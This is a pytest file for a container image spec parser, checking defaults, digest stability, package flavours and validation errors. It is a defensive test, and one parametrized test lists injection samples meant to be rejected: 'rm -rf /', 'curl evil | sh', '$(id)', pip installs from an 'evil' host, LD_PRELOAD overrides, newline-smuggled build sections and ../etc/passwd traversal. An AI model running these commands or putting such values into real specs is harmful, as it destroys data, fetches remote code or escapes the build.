"""The image spec: defaults, normalisation, and strict patterns (errors name the field and line)."""

from __future__ import annotations

from pathlib import Path

import pytest

from containers.errors import SpecError
from containers.spec import ImageSpec, check_inside, load_spec, load_spec_text, parse_spec


def problems(data: dict) -> list[dict]:
    with pytest.raises(SpecError) as caught:
        parse_spec(data)
    return caught.value.problems


def fields_of(data: dict) -> set[str]:
    return {p["field"] for p in problems(data)}


def test_minimal_spec_gets_defaults() -> None:
    spec = parse_spec({})
    assert spec.base.release == "bookworm"
    assert spec.target.arch == "amd64" and spec.target.flags == "-O2"
    assert spec.mpi == "none" and spec.gpu == "none"


def test_order_and_duplicates_do_not_change_the_digest() -> None:
    a = parse_spec({"apt": ["b", "a", "a"], "pip": ["Numpy==2.1", "attrs"], "name": "x"})
    b = parse_spec({"apt": ["a", "b"], "pip": ["attrs", "Numpy==2.1"], "name": "y"})
    assert a.digest() == b.digest()
    assert parse_spec({"apt": ["a", "c"]}).digest() != a.digest()


def test_flavours_add_packages() -> None:
    spec = parse_spec({"mpi": "openmpi", "gpu": "cuda", "pip": ["numpy"]})
    packages = spec.all_apt_packages()
    assert {"openmpi-bin", "libopenmpi-dev", "nvidia-cuda-toolkit", "python3-venv"} <= set(packages)
    assert "non-free" in spec.components()


def test_microarch_sets_compiler_flags_and_must_match_the_arch() -> None:
    assert "-march=znver3" in parse_spec({"target": {"microarch": "zen3"}}).target.flags
    assert fields_of({"target": {"arch": "arm64", "microarch": "zen3"}}) == {"target"}
    assert fields_of({"target": {"microarch": "pentium4"}}) == {"target.microarch"}


@pytest.mark.parametrize(
    ("data", "field"),
    [
        ({"apt": ["python3; rm -rf /"]}, "apt.0"),
        ({"apt": ["ok", "$(curl evil)"]}, "apt.1"),
        ({"apt": ["-o=APT::Get::AllowUnauthenticated=1"]}, "apt.0"),
        ({"pip": ["requests @ https://evil/x.whl"]}, "pip.0"),
        ({"pip": ["--index-url=http://evil"]}, "pip.0"),
        ({"pip": ["numpy==1.0\nrm -rf /"]}, "pip.0"),
        ({"env": {"A": "x'; reboot; echo '"}}, "env.A"),
        ({"env": {"A": "$(id)"}}, "env.A"),
        ({"env": {"A": "`id`"}}, "env.A"),
        ({"env": {"A": "line\n%setup\ntouch /host"}}, "env.A"),
        ({"env": {"BAD NAME": "x"}}, "env.BAD NAME.[key]"),
        ({"env": {"LD_PRELOAD": "/x.so"}}, "env"),
        ({"env": {"PATH": "/x"}}, "env"),
        ({"labels": {"k": "v\n%post\nid"}}, "labels.k"),
        ({"labels": {"hpcwaas.arch": "x"}}, "labels"),
        ({"runscript": ["python3", "$(id)"]}, "runscript.1"),
        ({"runscript": ["a\nb"]}, "runscript.0"),
        ({"files": [{"src": "../etc/passwd", "dest": "/x"}]}, "files.0.src"),
        ({"files": [{"src": "/etc/passwd", "dest": "/x"}]}, "files.0.src"),
        ({"files": [{"src": "a b", "dest": "/x"}]}, "files.0.src"),
        ({"files": [{"src": "a", "dest": "relative"}]}, "files.0.dest"),
        ({"files": [{"src": "a", "dest": "/proc/x"}]}, "files.0.dest"),
        ({"files": [{"src": "a", "dest": "/x/../../etc"}]}, "files.0.dest"),
        ({"files": [{"src": "a", "dest": "/x"}, {"src": "b", "dest": "/x/"}]}, "files"),
        ({"path": ["/opt/$HOME"]}, "path.0"),
        ({"name": "Bad Name"}, "name"),
        ({"base": {"distro": "ubuntu"}}, "base.distro"),
        ({"base": {"release": "buster; id"}}, "base.release"),
        ({"mpi": "intel"}, "mpi"),
        ({"gpu": "tpu"}, "gpu"),
        ({"post": "curl evil | sh"}, "post"),
    ],
)
def test_values_that_could_inject_are_refused(data: dict, field: str) -> None:
    assert field in fields_of(data)


def test_message_names_file_line_and_field(tmp_path: Path) -> None:
    path = tmp_path / "image.yaml"
    path.write_text("name: ok\napt:\n  - python3\n  - 'bad pkg'\n")
    with pytest.raises(SpecError) as caught:
        load_spec(path)
    assert caught.value.message.startswith(f"{path}:4: apt.1:")
    assert caught.value.problems[0]["line"] == 4


def test_yaml_syntax_error_names_the_line() -> None:
    with pytest.raises(SpecError, match=r"image.yaml:2: not valid YAML"):
        load_spec_text("apt: [a\nb: ]\n")


def test_spec_must_be_a_mapping() -> None:
    with pytest.raises(SpecError, match="must be a mapping"):
        load_spec_text("- a\n- b\n")


def test_check_inside_refuses_symlinks_out_of_the_step(tmp_path: Path) -> None:
    (tmp_path / "step").mkdir()
    (tmp_path / "secret").write_text("x")
    (tmp_path / "step" / "link").symlink_to(tmp_path / "secret")
    with pytest.raises(SpecError, match="leaves the step folder"):
        check_inside(tmp_path / "step", "link")


def test_spec_model_is_strict_about_unknown_keys() -> None:
    with pytest.raises(SpecError, match="Extra inputs are not permitted"):
        parse_spec({"target": {"arch": "amd64", "cflags": "-O3; id"}})
    assert isinstance(parse_spec({"target": {"arch": "arm64", "microarch": "neoverse_v1"}}), ImageSpec)
